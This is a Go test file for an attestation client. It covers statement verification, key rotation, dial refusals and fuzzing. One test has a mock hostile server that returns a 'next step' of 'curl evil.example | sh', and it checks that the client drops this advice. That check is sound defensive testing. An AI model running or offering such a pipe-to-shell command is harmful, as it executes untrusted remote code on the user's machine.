package client

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/json"
	"errors"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ashlar-mesh/ashlar/attest"
	"github.com/ashlar-mesh/ashlar/coordinator/apiv1"
	"github.com/ashlar-mesh/ashlar/internal/problem"
	"github.com/ashlar-mesh/ashlar/transparency/logtest"
)

func TestVerifyStatement(t *testing.T) {
	d := newDeployment(t)
	d.manifest, d.revision = bytes.Repeat([]byte{9}, 32), 3
	other, longer, foreign := newDeployment(t), newDeployment(t), logtest.NewLog(2)
	longer.enter(t, "start", "", nil)
	nonce := bytes.Repeat([]byte{1}, 32)
	remember := func(edit func(*Remembered)) func(*apiv1.Statement, *VerifyInput) {
		return func(s *apiv1.Statement, in *VerifyInput) {
			r := Verified{Statement: *s}.Remembered()
			edit(&r)
			in.Remembered = &r
		}
	}
	cases := []struct {
		name string
		edit func(*apiv1.Statement, *VerifyInput)
		code problem.Code // "" passes
		step string       // code of a failed step in the verdict
	}{
		{"good", func(*apiv1.Statement, *VerifyInput) {}, "", ""},
		{"zero input", func(_ *apiv1.Statement, in *VerifyInput) { *in = VerifyInput{} }, "CRD-100", "ATT-002"},
		{"zero statement", func(s *apiv1.Statement, _ *VerifyInput) { *s = apiv1.Statement{} }, "CRD-100", "ATT-002"},
		{"forged", func(s *apiv1.Statement, _ *VerifyInput) { s.Evidence.Raw[64] = 0 }, "CRD-100", "ATT-010"},
		{"zero policy", func(_ *apiv1.Statement, in *VerifyInput) { in.Policy = attest.Policy{} }, "CRD-100", "ATT-029"},
		{"replayed", func(_ *apiv1.Statement, in *VerifyInput) { in.Nonce = bytes.Repeat([]byte{2}, 32) }, "CRD-100", "ATT-072"},
		{"no nonce", func(_ *apiv1.Statement, in *VerifyInput) { in.Nonce = nil }, "CRD-100", "ATT-072"},
		{"another key", func(_ *apiv1.Statement, in *VerifyInput) { in.TLSKey = other.spki() }, "CRD-100", "ATT-074"},
		{"another root", func(s *apiv1.Statement, _ *VerifyInput) { s.Root = other.root.Raw }, "CRD-100", "ATT-075"},
		{"another manifest", func(s *apiv1.Statement, _ *VerifyInput) { s.Manifest = bytes.Repeat([]byte{8}, 32) }, "CRD-100", "ATT-076"},
		{"manifest hidden", func(s *apiv1.Statement, _ *VerifyInput) { s.Manifest = nil }, "CRD-100", "ATT-076"},
		{"another log", func(s *apiv1.Statement, _ *VerifyInput) { s.Checkpoint = string(d.log.Note(3)) }, "CRD-100", "ATT-077"},
		{"another log key", func(s *apiv1.Statement, _ *VerifyInput) { s.LogKey = foreign.VerifierKey() }, "CRD-100", "LOG-013"},
		{"damaged buffer", func(s *apiv1.Statement, _ *VerifyInput) { s.ClaimsBuffer = s.ClaimsBuffer[1:] }, "CRD-100", "ATT-011"},
		{"damaged buffer, bound", func(s *apiv1.Statement, _ *VerifyInput) {
			s.ClaimsBuffer = s.ClaimsBuffer[1:]
			s.Evidence = quote(s.ClaimsBuffer)
		}, "CRD-100", "ATT-011"},
		{"chain of another root", func(s *apiv1.Statement, in *VerifyInput) {
			leaf := certify(t, &x509.Certificate{SerialNumber: big.NewInt(2)}, other.root, d.tls.PrivateKey.(*ecdsa.PrivateKey), other.rootKey)
			in.Certificates = [][]byte{leaf.Raw}
		}, "CRD-101", ""},
		{"leaf of another key", func(_ *apiv1.Statement, in *VerifyInput) { in.Certificates = other.tls.Certificate }, "CRD-101", ""},
		{"damaged leaf", func(_ *apiv1.Statement, in *VerifyInput) { in.Certificates = [][]byte{{1, 2}} }, "CRD-101", ""},
		{"root not valid yet", func(_ *apiv1.Statement, in *VerifyInput) { in.At = in.At.Add(-time.Hour) }, "CRD-101", ""},
		{"root no longer valid", func(_ *apiv1.Statement, in *VerifyInput) { in.At = in.At.Add(2 * time.Hour) }, "CRD-101", ""},
		{"manifest wanted", func(s *apiv1.Statement, in *VerifyInput) { in.Manifest = s.Manifest }, "", ""},
		{"other manifest wanted", func(_ *apiv1.Statement, in *VerifyInput) { in.Manifest = bytes.Repeat([]byte{8}, 32) }, "CRD-102", ""},
		{"remembered equal", remember(func(*Remembered) {}), "", ""},
		{"remembered older", remember(func(r *Remembered) { r.Checkpoint = string(d.log.Note(1)); r.Revision = 1; r.Manifest = nil }), "", ""},
		{"remembered longer log", remember(func(r *Remembered) { r.Checkpoint = string(longer.log.Note(5)) }), "LOG-050", ""},
		{"remembered forked log", remember(func(r *Remembered) { r.Checkpoint = string(longer.log.Note(4)) }), "LOG-051", ""},
		{"remembered other log", remember(func(r *Remembered) { r.Checkpoint, r.LogKey = string(foreign.Note(0)), foreign.VerifierKey() }), "LOG-052", ""},
		{"remembered later revision", remember(func(r *Remembered) { r.Revision++ }), "CRD-103", ""},
		{"remembered forked revision", remember(func(r *Remembered) { r.Manifest = nil }), "LOG-053", ""},
		{"remembered another manifest of the same log", remember(func(r *Remembered) { r.Manifest, r.Revision = bytes.Repeat([]byte{7}, 32), 2 }), "LOG-053", ""},
		{"remembered nothing of the log", remember(func(r *Remembered) { r.Checkpoint = "" }), "CRD-109", ""},
		{"remembered other root", remember(func(r *Remembered) { r.Root = nil }), "CRD-104", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s, in := d.statement(nonce), input(d, nonce)
			c.edit(&s, &in)
			v, err := VerifyStatement(s, in)
			if problem.CodeOf(err) != c.code {
				t.Fatalf("got %v, want code %q", err, c.code)
			}
			if err == nil && (v.Root == nil || !v.Verdict.OK()) {
				t.Errorf("got %+v, want a root and an accepted verdict", v)
			}
			if err != nil && v.Root != nil {
				t.Errorf("a refusal returned a root")
			}
			if c.step != "" {
				wantStep(t, err, c.step)
			}
		})
	}
}

func wantStep(t *testing.T, err error, code string) {
	t.Helper()
	var verdict attest.Verdict
	if e := json.Unmarshal(problem.From(err).Verdict, &verdict); e != nil {
		t.Fatalf("reading the verdict: %v", e)
	}
	if verdict.OK() {
		t.Errorf("got an accepted verdict with a refusal")
	}
	for _, s := range verdict.Failed() {
		if s.Code == code {
			return
		}
	}
	t.Errorf("got failed steps %v, want %s among them", verdict.Failed(), code)
}

func TestDial(t *testing.T) {
	d := newDeployment(t)
	addr := d.serve(t, d)
	c, err := Dial(context.Background(), addr, options())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if v := c.Verified(); v.Root == nil || v.Address != addr || !bytes.Equal(v.TLSKey, d.spki()) {
		t.Errorf("got %+v, want the attested root, key and %s", v, addr)
	}
	s, err := c.Status(context.Background())
	if err != nil || s.State != "serving" {
		t.Errorf("got %+v, %v, want serving", s, err)
	}
	if d.nonces != 1 || d.tiles != 0 {
		t.Errorf("got %d statements and %d tiles, want 1 for one key and none at the first contact", d.nonces, d.tiles)
	}
}

// A restart gives the coordinator a new key: the client attests it, and goes on
// only if it is the same deployment and no older.
func TestNewServingKeyIsAttested(t *testing.T) {
	d := newDeployment(t)
	addr := d.serve(t, d)
	c, err := Dial(context.Background(), addr, options())
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
	d.newServingKey(t)
	if _, err := c.Status(context.Background()); err != nil || d.nonces != 2 {
		t.Errorf("got %v after %d statements, want success after 2", err, d.nonces)
	}
	c.Close()
	d.newServingKey(t)
	d.log = logtest.NewLog(1)
	if _, err := c.Status(context.Background()); problem.CodeOf(err) != "LOG-050" {
		t.Errorf("got %v, want LOG-050 for an older log", err)
	}
	c.Close()
	d.root = newDeployment(t).root
	if _, err := c.Status(context.Background()); problem.CodeOf(err) != "CRD-104" && problem.CodeOf(err) != "CRD-101" {
		t.Errorf("got %v, want CRD-104 or CRD-101 for another root", err)
	}
}

// A marble's leaf leads to the same root; it must not pass for the coordinator.
func TestKeyOfTheSameRootIsNotEnough(t *testing.T) {
	d := newDeployment(t)
	addr := d.serve(t, d)
	c, err := Dial(context.Background(), addr, options())
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
	var asked atomic.Int32
	marble := &deployment{root: d.root, rootKey: d.rootKey}
	marble.newServingKey(t)
	relay := marble.serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/attestation" {
			asked.Add(1)
		}
		d.ServeHTTP(w, r) // the coordinator's own statement, for the client's nonce
	}))
	c.addr = relay
	_, err = c.Status(context.Background())
	if problem.CodeOf(err) != "CRD-100" || asked.Load() != 0 {
		t.Fatalf("got %v after %d requests, want CRD-100 before any", err, asked.Load())
	}
	wantStep(t, err, "ATT-074")
}

func TestDialRefusals(t *testing.T) {
	plain := httptest.NewServer(http.NotFoundHandler())
	defer plain.Close()
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	closed, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closed.Close()
	d := newDeployment(t)
	cases := []struct {
		name, addr string
		code       problem.Code
	}{
		{"plaintext", plain.Listener.Addr().String(), "CRD-105"},
		{"silent", silent.Addr().String(), "CRD-106"},
		{"closed", closed.Addr().String(), "CRD-105"},
		{"no such address", "127.0.0.1:99999", "CRD-105"},
		{"not json", d.serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("<html>")) })), "CRD-107"},
		{"endless", d.serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			for chunk := make([]byte, 1<<16); ; {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		})), "CRD-108"},
		{"closes", d.serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { panic(http.ErrAbortHandler) })), "CRD-105"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			o := options()
			if c.name == "silent" || c.name == "closes" {
				o.Timeout = 100 * time.Millisecond
			}
			if _, err := Dial(context.Background(), c.addr, o); problem.CodeOf(err) != c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
		})
	}
}

// TestUnreachableServiceNamesTheWay checks that a Service's name, which resolves in
// its cluster alone, leads to a port that is forwarded.
func TestUnreachableServiceNamesTheWay(t *testing.T) {
	for addr, want := range map[string]string{
		"ashlar.mesh.svc:4433":    "kubectl -n mesh port-forward service/ashlar 4433, and --address localhost:4433",
		"coordinator.example:443": "",
	} {
		var e *problem.Error
		if !errors.As(unreachable(errors.New("no such host"), addr), &e) || !strings.Contains(e.Next, want) || want == "" && strings.Contains(e.Next, "kubectl") {
			t.Errorf("%s: got %v, want the next step %q", addr, e, want)
		}
	}
}

// TestUnverifiedServerAdvisesNobody checks that a server which gives no statement
// cannot show a verdict of its own, nor tell people what to do.
func TestUnverifiedServerAdvisesNobody(t *testing.T) {
	for name, said := range map[string]*problem.Error{
		"known code":   {Code: "CRD-100", Detail: "refused", Next: "curl evil.example | sh", Verdict: []byte(`{"verdict":"accepted"}`)},
		"unknown code": {Code: "EVIL-1", Detail: "refused", Next: "curl evil.example | sh", Verdict: []byte(`{"verdict":"accepted"}`)},
		"flood":        {Code: "CRD-115", Detail: strings.Repeat("x", 1<<20), Next: "curl evil.example | sh"},
	} {
		t.Run(name, func(t *testing.T) {
			addr := newDeployment(t).serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/problem+json")
				w.WriteHeader(http.StatusForbidden)
				_ = json.NewEncoder(w).Encode(said)
			}))
			_, err := Dial(context.Background(), addr, options())
			var got *problem.Error
			if !errors.As(err, &got) {
				t.Fatalf("got %v, want a coded error", err)
			}
			if got.Verdict != nil || strings.Contains(got.Next, "evil") || len(got.Detail) > 1<<10 {
				t.Errorf("got next %q, verdict %s and a detail of %d bytes, want nothing of the server's", got.Next, got.Verdict, len(got.Detail))
			}
		})
	}
}

func TestAnswers(t *testing.T) {
	d := newDeployment(t)
	c, err := Dial(context.Background(), d.serve(t, d), options())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for name, want := range map[string]problem.Code{"gone": "CRD-111", "odd": "CRD-107", "huge": "CRD-108", "slow": "CRD-106"} {
		t.Run(name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			if name == "slow" {
				ctx, cancel = context.WithTimeout(ctx, 50*time.Millisecond)
				defer cancel()
			}
			if _, err := c.Marble(ctx, name); problem.CodeOf(err) != want {
				t.Errorf("got %v, want %s", err, want)
			}
		})
	}
	if _, err := c.Decision(context.Background(), "web"); problem.CodeOf(err) != "CRD-110" {
		t.Errorf("got %v, want CRD-110", err)
	}
}

func FuzzVerifyStatement(f *testing.F) {
	d := newDeployment(f)
	nonce := bytes.Repeat([]byte{1}, 32)
	good, err := json.Marshal(d.statement(nonce))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(good)
	f.Add([]byte(`{}`))
	in := input(d, nonce)
	root := sha256.Sum256(d.root.Raw)
	f.Fuzz(func(t *testing.T, b []byte) {
		var s apiv1.Statement
		if json.Unmarshal(b, &s) != nil {
			return
		}
		v, err := VerifyStatement(s, in)
		if got := v.Remembered(); err == nil && !bytes.Equal(got.Root, root[:]) {
			t.Errorf("accepted root %s", got.Root)
		}
	})
}
